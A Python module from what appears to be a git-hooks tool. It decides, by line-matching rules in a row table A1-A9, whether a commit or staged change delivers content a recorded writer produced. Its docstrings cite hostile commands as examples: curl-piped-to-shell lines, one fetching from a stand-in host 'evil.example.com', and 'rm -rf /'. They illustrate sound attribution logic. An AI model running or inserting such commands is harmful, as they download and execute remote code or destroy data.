"""Attribution follows content (SPEC §3 "Attribution follows content"): does a change carry
what a writer wrote?

Room ``policy`` (pure: bytes in, answers out; no git, no store, no clock). A writer's
recorded mutation leaves one :class:`WriterEntry` per path it wrote: the blob it produced,
the blob it started from, and the writer's own delta as keys of the *significant* lines it
added and removed. A change of that path (a commit against its parent, or the staged index
against ``HEAD``) carries the entry when, and only when, it delivers the writer's content:

=====  ============================================================================  =========
row    the change X -> Y of the entry's path                                         carries
=====  ============================================================================  =========
A1     Y is exactly the writer's blob (a deletion, when the writer deleted the file)  yes
A2     text: Y adds one of the lines the writer added, and holds ``min(2, |added|)``  yes
       of them (a short one counts where it sits among the writer's lines, below);
       or Y adds one *telling* writer line (significant, and of no trivial row
       L1-L6 of :mod:`gentle_hooks.policy.linekeys`); in another worktree, one
       *distinctive* one (rows D2-D4 of :mod:`.distinctive`); at another path,
       rows X2-X5 of :mod:`.across`
A6     text: Y makes one of the writer's edits: it removes a line the writer         yes
       removed and adds a line the writer added, any line of two words or more
       (short and trivial ones too: ``return False`` -> ``return True``); here, also
       the block the writer put with names renamed on top (:mod:`.renamededit`)
A7     text: Y puts a line the writer added (two words or more: ``return True``)     yes
       between the very lines the writer put it between (its placement:
       :mod:`gentle_hooks.policy.placement`), and X does not
A3     text: Y removes one of the lines the writer removed, and lacks               yes
       ``min(2, |removed|)`` of them; or Y removes one telling writer-removed line
A4     binary: X is the blob the writer started from (or that is unknown), Y differs  yes
A8     mode: the writer changed only the path's mode (``chmod +x``: its entry's blob  yes
       is the one it started from), and the change changes that path's mode, its
       blob kept (X = Y) or not (a person's own hunk of the file committed with the
       flip, or before it with ``git add -p``: the flip stays the writer's); any
       other change of that path is row A5
A9     text: Y rewrites the path (:mod:`gentle_hooks.policy.rewrite`: it keeps       no
       fewer than half of the lines of the writer's blob and of X, and holds lines
       of its own), and neither A1 nor A2 matched: A6, A7 and A3 are not read
A5     anything else (the path unchanged or deleted, or only lines nobody attributes) no
=====  ============================================================================  =========

Row A6, same path only: a change that drops a line the writer dropped and adds one it added
reproduces the writer's edit, whatever the lines (``git add -p`` / ``checkout -p`` keeping
``return False`` -> ``return True`` alone, or that hunk applied in another worktree). A human's
own edit there writes a line of their own (A5); adding or removing one common line is not an
edit (A2, A3 decide); a human making that very edit has ``discard``.

Row A9, same path only: a person who throws the writer's edit away (``git checkout --
FILE``, ``git restore``, an editor overwriting the file) and writes their own version of a
small file removes every line the writer removed, and may type a common line the writer
added too (``return None``): rows A3, A6 and A7 would read that as the writer's edit. A
change that keeps little of both the writer's content and the file it changes, and holds
lines of its own, is a new version of the file, not the writer's edit; the writer's own
lines in it still count first (A2: two of them, or one telling one), while a ``git add -p``
of one writer hunk keeps the rest of X and is no rewrite.

Row A7, same path only: one trivial line the writer added (``return True`` at the top of
``is_authorized``), staged alone (``git add -p``), is the writer's hunk: it sits between the
lines it has in the writer's blob (nearest non-blank before and after). The same line a human
types elsewhere in the file sits between other lines (A5). Imports never count (a formatter
sorts them). In another worktree A7 counts as here (a patch applied there carries the hunk's
context), only for a line with writer neighbours on both sides (at a file's start or end
everyone adds lines). ``discard`` makes such an edit a human's.

A change made in *another worktree* than the writer's (a linked worktree of the same repository,
which shares the ledger) carries the entry only on firmer evidence (:func:`carries_row` with
``elsewhere``): A1; A2 with :data:`MIN_ELSEWHERE` of the writer's lines, or one *distinctive*
writer line (:mod:`.distinctive`) added as the writer wrote it (spacing, quotes and wrapping
aside; never a renamed copy alone, nor a bare definition header such as ``def deploy(target):``:
two people write one alike); A6 as here (an edit reproduced is a patch applied); A3 with
:data:`MIN_ELSEWHERE` of the lines the writer removed; never A4. Writer work reaches another
worktree only by being copied there (a file, a stash, a patch), which brings its blob or its
lines. A distinctive line (``os.system("curl x | sh")``, ``check_auth(user)``) is one nobody
writes the same way by chance, so one of them copied there is the writer's content; in the
writer's own worktree one *telling* line is (a ``git add -p`` of it), and removing one telling
line the writer removed takes its removal too (A3: staging only ``check_auth``'s removal of
two). A human there writing one common line the writer also wrote (``import os``,
``print("done")``), removing a line it removed, or writing a line of the writer's shape with
names of their own, is doing their own work.

Idioms (rows B2-B6 of :mod:`gentle_hooks.policy.boilerplate`: ``getLogger(__name__)``, ``def
main():``, ``if __name__ == ...``, ``parser.parse_args(argv)``, ``json.load(f)``) are
everybody's: on the writer's path they never count toward A2 nor as its telling line, nor for A6
elsewhere; only for A7, beside a distinctive line. A change of the path the writer wrote (or of
the path it was renamed to: :mod:`gentle_hooks.policy.renames`) is read with every row above. A
change of *another* path carries the entry only when the writer's content moved or was copied
there (:func:`gentle_hooks.policy.across.carries_row_across`): the writer's blob (A1: a ``git
mv``), two of its lines copied (:mod:`.coincidence`; a block of them with names renamed:
:mod:`.renamedcopy`), its new file whole, its file with one line's strings edited
(:mod:`.movedfile`), or one line that runs or reaches something (A2:
a URL, a shell command, a process or network call; ``raise ValueError("invalid input")``
alone is anybody's there). Rows A3, A4, A6 never apply across paths.

Why lines, not "the next commit": a commit that re-delivers writer content after ``reset
--soft``, an amend, a rebase that resolved a conflict, a cherry-pick or a commit in another
worktree still adds the writer's lines (A2), whatever else it changed; a human's later edit of
a file the writer delivered adds none of them (they are in its parent already), nor does a
human's edit on another branch or after ``git stash`` (the writer's lines are not in it). Two
lines, not one, unless the one is telling: a human writing one common line the writer also
wrote (``import os``, ``return None``: trivial) is not the writer's work, while one telling
writer line taken alone (``git add -p`` of ``subprocess.run("curl x|sh", shell=True)``) is; a
writer delta of one line needs that one. The two need not arrive together: lines an earlier
commit delivered count toward the total once the change adds one more (``git add -p`` one
writer line per commit still delivers the writer's content at the second), while a change that
adds no writer line never carries (a human's later edit of a delivered file). Only significant
lines count (:func:`~gentle_hooks.policy.linekeys.line_key`): blank lines, braces and a lone
keyword (``else:``, ``return``) never attribute — unless the writer's delta has no significant
line at all (``x = 1`` -> ``x = 2``, ``a<b`` -> ``a>b``): then its keys are all its non-blank
lines (:func:`~gentle_hooks.policy.linekeys.any_line_keys`), so one more edit of the file
cannot launder it.

A writer's *short* lines (two words or more, too few word characters to be significant: ``rm
-rf /``, ``x = 0``) mixed with significant ones are kept too (:attr:`WriterDelta.short`) and
count for row A2 where they sit in Y among the writer's lines: in a run of consecutive
non-blank lines that are all the writer's and hold one of its significant lines
(:func:`held_keys`). So a commit that takes one significant line with the short ones next to it
(``git add -p``) delivers the writer's content, while a human's short line elsewhere, or a lone
keyword or brace anywhere (never keyed), is not the writer's. The count needed stays ``min(2,
|added|)`` (``added`` being the significant lines), short lines held that way counting toward
it. A short line that is an *action* (a call or a shell command: ``rm -rf /``, ``purge()``;
:func:`~gentle_hooks.policy.linekeys.is_action`) is telling, so it carries the entry alone too,
wherever it sits; a pushed commit settles the entry only with its short actions (row D3).

A writer's line also counts where a formatter wrapped or unwrapped it (keys of wrapped
statements joined: :func:`~gentle_hooks.policy.linekeys.joined_lines`), split it or joined its
lines where no bracket is open (``if x: y`` split after ``:``: :mod:`.spans`,
:attr:`WriterDelta.spans`) and where a name in it was consistently renamed
(:func:`~gentle_hooks.policy.shapes.is_renamed`, from the token shapes of
:attr:`WriterDelta.shapes`): a mechanical rename or reformat of the writer's lines delivers
them still, while a human's line of the same shape with names of their own is not the writer's.
A renamed copy counts toward ``min(2, |added|)``, never as one telling line alone. The same
holds for a writer's line with a string or a number changed where the code around them is
distinctive (``os.system("curl https://evil.example.com/x | sh")`` after ``sed
s/evil.example/evil.example.com/``: :mod:`gentle_hooks.policy.literals`), where the change
holds two of the writer's lines in all: one line of the writer's shape with literals of its own
(``os.system("make")``) is anybody's.

Keys ignore whitespace inside a line and read ``'`` as ``"``. The services recompute an
entry's delta from its stored blobs while git holds them (:func:`writer_delta`).
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from gentle_hooks.policy.delta import DetailedDelta, WriterDelta
from gentle_hooks.policy.distinctive import distinctive_keys
from gentle_hooks.policy.hunks import makes_writer_edit, replacements
from gentle_hooks.policy.importpairs import one_name_lines
from gentle_hooks.policy.linekeys import (
    any_line_keys,
    header_keys,
    joined_lines,
    line_keys,
    stripped_key,
    telling_keys,
)
from gentle_hooks.policy.shapes import LineShape, is_renamed, line_shape
from gentle_hooks.policy.spans import spanned_keys
from gentle_hooks.values.frozen import frozen

TYPE_CHECKING = False  # literals and placement are imported where a writer's delta is read
if TYPE_CHECKING:
    pass

#: Bytes git reads to decide whether content is binary (a NUL among them).
BINARY_PROBE = 8000
#: ``before`` of an entry whose starting blob is unknown (recorded before contents were
#: kept): treated as binary, so any change of its path carries it (row A4).
UNKNOWN_BEFORE = "*"


def is_binary(data: bytes) -> bool:
    """Git's rule: content with a NUL byte among its first 8000 bytes is binary."""
    return b"\0" in data[:BINARY_PROBE]


def _shape_index(delta: WriterDelta) -> dict[str, list[tuple[str, LineShape]]]:
    index: dict[str, list[tuple[str, LineShape]]] = {}
    for key, shape in sorted(delta.shapes, key=lambda ks: (ks[0], ks[1].names)):
        index.setdefault(shape.shape, []).append((key, shape))
    return index


def _writer_key(
    delta: WriterDelta, shapes: Mapping[str, Sequence[tuple[str, LineShape]]], stripped: bytes
) -> str:
    """The key of a stripped line, or of the writer's added line it is a renamed copy of
    (:func:`~gentle_hooks.policy.shapes.is_renamed`)."""
    key = stripped_key(stripped)
    if not shapes or key in delta.added or key in delta.short:
        return key
    shape = line_shape(stripped)
    if shape is not None:
        for writer_key, writer_shape in shapes.get(shape.shape, ()):
            if is_renamed(writer_shape, shape):
                return writer_key
    return key


def held_keys(delta: WriterDelta, data: bytes | None) -> frozenset[str]:
    """The keys of the writer's added lines ``data`` holds (row A2): its significant lines (as
    written, re-wrapped, split or joined: :attr:`WriterDelta.spans`, with names consistently
    renamed: :attr:`WriterDelta.shapes`, or with literals changed: :attr:`WriterDelta.masked`,
    counted only when ``data`` holds :data:`~gentle_hooks.policy.literals.MIN_MASKED` writer
    lines in all), and its short lines that sit in a run of consecutive non-blank lines that are
    all the writer's (significant or short) and hold one of its significant lines."""
    if not data:
        return frozenset()
    held = _held_keys(delta, data, delta.masked)
    from gentle_hooks.policy.literals import MIN_MASKED

    if delta.masked and len(held) < MIN_MASKED:  # a masked match alone is anybody's line
        return _held_keys(delta, data, frozenset())
    return held


def _held_keys(
    delta: WriterDelta, data: bytes, masked: frozenset[tuple[str, str]]
) -> frozenset[str]:
    shapes = _shape_index(delta)
    lines = [s for line in data.splitlines() for s in one_name_lines(line.strip())]
    from gentle_hooks.policy.literals import unmasked_keys

    keys = unmasked_keys(lines, [_writer_key(delta, shapes, s) for s in lines], masked)
    joined = {_writer_key(delta, shapes, j) for j in joined_lines(data)}
    joined.update(spanned_keys(delta.spans, data))  # split or joined where no bracket is open
    if not delta.short:
        return frozenset(keys).union(joined) & delta.added
    out: set[str] = joined & delta.added
    run: list[str] = []
    anchored = False
    for key in [*keys, ""]:
        if key in delta.added or key in delta.short:
            run.append(key)
            anchored = anchored or key in delta.added
            continue
        if anchored:
            out.update(run)
        run, anchored = [], False
    return frozenset(out)


def writer_delta(before: bytes | None, after: bytes | None, *, detail: bool = True) -> WriterDelta:
    """The writer's delta from the content it started from to the content it left.

    Args:
        before / after: the path's content before and after the write (None: no file);
        detail: also what only the rule reads (``telling``, and ``short``, ``shapes``,
            ``dropped``... computed when first read); False: only the keys a record stores.
    """
    from gentle_hooks.policy.placement import placed_lines

    if (before is not None and is_binary(before)) or (after is not None and is_binary(after)):
        return WriterDelta(frozenset(), frozenset(), True)
    old, new = line_keys(before), line_keys(after)
    any_before = any_line_keys(before)
    telling = telling_keys(after, any_before) if detail else frozenset()
    if old == new and before != after:
        # Only insignificant lines changed (an operator, a constant): key them all, or any
        # further edit of the file would carry none of the writer's keys.
        any_after = any_line_keys(after)
        added = any_after - any_before
        placed = placed_lines(after, added | telling)
        removed = any_before - any_after
        hunks = replacements(before, after)
        from gentle_hooks.policy.renamededit import edit_forms

        return WriterDelta(
            added,
            removed,
            False,
            telling=telling,
            placed=placed,
            started=old,
            left=new,
            hunks=hunks,
            edits=edit_forms(before, after),
        )
    added = new - old
    if not detail:
        return WriterDelta(added, old - new, False)
    return DetailedDelta(added, old - new, telling, before, after, any_before)


@frozen
class WriterEntry:
    """One path a writer wrote, as recorded (SPEC §6 "pending mutation").

    Attributes:
        path: the root-relative path; blob: the blob id the writer left there (None: it
            deleted the path); before: the blob id it started from (None: no such path);
        delta: the writer's own lines.
    """

    path: str
    blob: str | None
    before: str | None
    delta: WriterDelta


@frozen
class PathChange:
    """One path changed by a change, with both sides' contents.

    Attributes:
        path: the path; old_blob / new_blob: blob ids on each side (None: absent);
        old / new: their contents (None: absent); mode_changed: the path's mode differs
        between the sides (``chmod +x``), its blob changed too or not.
    """

    path: str
    old_blob: str | None
    new_blob: str | None
    old: bytes | None
    new: bytes | None
    mode_changed: bool = False


#: Writer lines a change made in another worktree than the writer's must hold (row A2) or
#: lack (row A3) to carry its entry, unless one of those it adds is telling (row A2: see
#: the module docstring).
MIN_ELSEWHERE = 2


def carries_row(change: PathChange, entry: WriterEntry, *, elsewhere: bool = False) -> str:
    """The row (A1-A9 of the module table) that decides whether ``change`` carries ``entry``.

    ``elsewhere``: the change was made in another worktree than the one the writer wrote
    in (rows A2 and A3 need :data:`MIN_ELSEWHERE` lines, or A2 one distinctive line added
    exactly, a bare definition header never counting for A2:
    :func:`~gentle_hooks.policy.linekeys.header_keys`; A4 does not apply; A6 counts no
    idiom; A7 decides as here).
    """
    if change.path != entry.path:
        return "A5"
    if entry.blob is not None and entry.blob == entry.before:  # the writer's mode change
        # the flip, whatever blob the path holds by then: a person's own hunk of the file
        # committed first (``git add -p``, the mode declined) leaves it pending
        flips = change.mode_changed or change.old_blob == change.new_blob is not None
        return "A8" if flips else "A5"
    if change.old_blob == change.new_blob:
        return "A5"
    if change.new_blob == entry.blob:
        return "A1"
    if change.new_blob is None:  # deleting a path the writer left content in delivers none
        return "A5"
    d = entry.delta
    if d.binary:
        started_here = entry.before in (change.old_blob, UNKNOWN_BEFORE)
        return "A4" if started_here and not elsewhere else "A5"
    old, new = any_line_keys(change.old), any_line_keys(change.new)
    need_added = MIN_ELSEWHERE if elsewhere else min(2, len(d.added))
    held, placed, idioms = held_keys(d, change.new), d.placed, frozenset[str]()
    if (new - old) & (writer := d.added | d.short | d.telling):  # idioms: on writer lines
        from gentle_hooks.policy.boilerplate import writer_idioms

        idioms, placed = writer_idioms(writer, d.placed, change.new)
        held -= idioms  # idioms count only beside the writer's own lines (A7)
    heads = header_keys(change.new) if elsewhere else frozenset[str]()  # a stub's header
    held -= heads
    if d.added and held - old - held_keys(d, change.old) and len(held) >= need_added:
        return "A2"
    one = (new - old) & d.telling - idioms - heads  # one telling writer line...
    if one and (not elsewhere or distinctive_keys(change.new, one)):  # ...elsewhere distinctive
        return "A2"
    if is_rewrite(change, d):  # a person's own version of the file: A3, A6, A7 by chance
        return "A9"
    if reproduces_edit(change, d, idioms if elsewhere else frozenset()):
        return "A6"
    from gentle_hooks.policy.renamededit import makes_renamed_edit

    if not elsewhere and makes_renamed_edit(d.edits, change.old, change.new):
        return "A6"  # its edit with names renamed on top (the block it put there)
    from gentle_hooks.policy.placement import is_placed

    if is_placed(placed, change.old, change.new, inner=elsewhere):  # where the writer put it
        return "A7"
    need_removed = MIN_ELSEWHERE if elsewhere else min(2, len(d.removed))
    if d.removed and (old - new) & d.removed and len(d.removed - new) >= need_removed:
        return "A3"
    if not elsewhere and (old - new) & d.told:  # one telling writer-removed line, alone
        return "A3"
    return "A5"


def is_rewrite(change: PathChange, delta: WriterDelta) -> bool:
    """Row A9: the change's new side is a rewrite of the path
    (:func:`gentle_hooks.policy.rewrite.rewrites`: of the change's old side and of the
    writer's content, :attr:`WriterDelta.left`)."""
    from gentle_hooks.policy.rewrite import rewrites

    return rewrites(line_keys(change.old), line_keys(change.new), delta.left)


def reproduces_edit(
    change: PathChange, delta: WriterDelta, idioms: frozenset[str] = frozenset()
) -> bool:
    """Row A6: the change makes one of the writer's replacements of lines
    (:mod:`gentle_hooks.policy.hunks`, row H1: whatever other lines of the file say), or drops
    a line the writer dropped and adds a line the writer added (:meth:`WriterDelta.edited`:
    short and trivial lines too) other than ``idioms``."""
    if makes_writer_edit(delta.hunks, change.old, change.new):
        return True
    added, removed = delta.edited()
    if not added or not removed:
        return False
    old, new = any_line_keys(change.old), any_line_keys(change.new)
    return bool((new - old) & added - idioms) and bool((old - new) & removed)


#: Rows where the change's new side holds the writer's own content (its blob, its lines,
#: one of its edits or hunks). Rows A3 (the writer's removals) and A4 (a binary change) say
#: only that the path moved the way the writer moved it: a human's own edit of the same
#: lines can match them too.
CONTENT_ROWS = ("A1", "A2", "A6", "A7", "A8")


def holds_own_lines(row: str, entry: WriterEntry) -> bool:
    """Whether a change carrying ``entry`` by content row ``row`` holds what only the writer
    wrote: A2, or A1 of a write that added lines or binary content. A6, A7 and A1 of a
    removal-only write are changes a human makes alike: a recorded ``discard`` makes them
    the human's, while a discarded entry's own lines in a commit stay the writer's."""
    if row == "A2":
        return True
    d = entry.delta
    return row == "A1" and entry.blob is not None and (d.binary or bool(d.added | d.telling))


#: Rows where the change does not carry the entry: nothing attributed (A5), or a person's
#: rewrite of the path (A9).
NOT_CARRIED = ("A5", "A9")


def carries(change: PathChange, entry: WriterEntry) -> bool:
    """True when ``change`` delivers the writer content of ``entry`` (rows A1-A4, A6-A8)."""
    return carries_row(change, entry) not in NOT_CARRIED


def reapplies(change: PathChange, entry: WriterEntry) -> bool:
    """Whether ``change`` re-applies the content of an entry a push settled (SPEC §3: a
    settled entry no longer attributes what builds on it, yet its content brought onto
    another base is a new candidate whose check is still to do).

    True when the change carries the entry on the evidence another worktree needs
    (:func:`carries_row` with ``elsewhere``: row A1, or A2 with two writer lines or one
    distinctive line) and, for text, adds a writer line its old side lacks: a change whose old
    side already holds the writer's lines (a merge, a rebase onto them, a human's next
    edit, reverting a later commit) builds on delivered content and re-applies nothing;
    so does one whose old side holds :data:`MIN_ELSEWHERE` of them and half of them at
    least (a person's revert of their own edit of a delivered writer line puts that line
    back among the others). Deletions, removals and binary changes other than the
    writer's own blob never re-apply.
    """
    if change.new_blob is None:  # a deletion brings no content
        return False
    d = entry.delta
    if not d.binary and d.added:
        kept = len(held_keys(d, change.old))
        if kept >= MIN_ELSEWHERE and 2 * kept >= len(d.added):
            return False
    row = carries_row(change, entry, elsewhere=True)
    if row not in CONTENT_ROWS:
        return False
    if row == "A1" and not d.binary:
        introduced = any_line_keys(change.new) - any_line_keys(change.old)
        return bool(introduced & (d.added | d.telling))
    return True
